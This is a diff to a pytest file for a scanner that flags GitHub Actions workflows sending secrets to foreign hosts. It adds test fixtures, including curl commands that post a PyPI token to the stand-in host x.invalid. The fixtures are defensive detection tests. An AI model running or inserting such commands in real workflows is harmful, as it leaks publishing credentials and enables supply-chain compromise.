@@ -8,7 +8,7 @@ from pathlib import Path
 import pytest
 
 from scanner.code.workflows import read_workflow
-from tests.code.test_started import of_tree, of_wheel
+from tests.code.test_started import of_tree, of_wheel, runs_unread
 
 CI = ".github/workflows/ci.yml"
 HEAD = "on: [push]\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
@@ -34,11 +34,7 @@ MALICIOUS = {
 
 @pytest.mark.parametrize("name", MALICIOUS)
 def test_secrets_that_are_sent_to_others(tmp_path: Path, name: str) -> None:
-    step = MALICIOUS[name]
-    if step.startswith('- run: curl -d "$ALL"'):
-        # The environment of a step may stand behind what it runs.
-        step = step
-    found = of_tree(tmp_path, {CI: _job(step)})
+    found = of_tree(tmp_path, {CI: _job(MALICIOUS[name])})
     assert (found.verdict, found.deciding_rules) == ("malicious", ("workflow-secrets-sent",))
 
 
@@ -50,7 +46,29 @@ def test_a_key_of_one_service_is_suspicious_and_other_ci_is_read(tmp_path: Path)
     assert read_workflow(text.encode()).text.split("\n")[2].startswith("workflow_sends_foreign(")
 
 
+@pytest.mark.parametrize(
+    "command",
+    [
+        'curl -d t=${{ secrets.PYPI_TOKEN }} -H "Referer: https://pypi.org/" https://x.invalid',
+        "curl -d t=${{ secrets.PYPI_TOKEN }} https://x.invalid # https://pypi.org/",
+        "curl -d t=${{ secrets.PYPI_TOKEN }} https://x.invalid https://pypi.org/",
+        "echo ${{ secrets.PYPI_TOKEN }} | curl -d @- https://x.invalid https://pypi.org/",
+    ],
+)
+def test_the_name_of_the_service_beside_it_makes_a_host_no_less_foreign(tmp_path: Path, command: str) -> None:
+    assert of_tree(tmp_path, {CI: _job(f"- run: |\n    {command}")}).verdict == "suspicious"
+
+
+@pytest.mark.parametrize("lines", [f"- run: echo {'x' * 9_000}", "#" * 600_000])
+def test_a_workflow_that_is_read_in_part_is_a_gap_of_what_runs(tmp_path: Path, lines: str) -> None:
+    assert runs_unread(of_tree(tmp_path, {CI: _job(lines)})) == {CI}
+
+
 HONEST = {
+    "a link in what is sent": "- run: |\n    curl -H 'Authorization: token ${{ secrets.GITHUB_TOKEN }}' "
+    '-d \'{"target_url": "https://x.invalid/1"}\' https://api.github.com/repos/a/b/statuses/c',
+    "an answer of GitHub": "- run: |\n    curl -H 'Authorization: Bearer ${{ secrets.GITHUB_TOKEN }}' "
+    "https://api.github.com/x | jq .a | curl -d @- https://x.invalid",
     "codecov": "- run: |\n    curl -Os https://cli.codecov.io/codecov\n    ./codecov -t ${{ secrets.CODECOV_TOKEN }}",
     "codecov by hand": "- run: curl -X POST -F token=${{ secrets.CODECOV_TOKEN }} https://codecov.io/upload/v2",
     "GitHub": '- run: |\n    curl -H "Authorization: Bearer ${{ secrets.GITHUB_TOKEN }}" \\\n      -d 1 https://api.github.com/x',
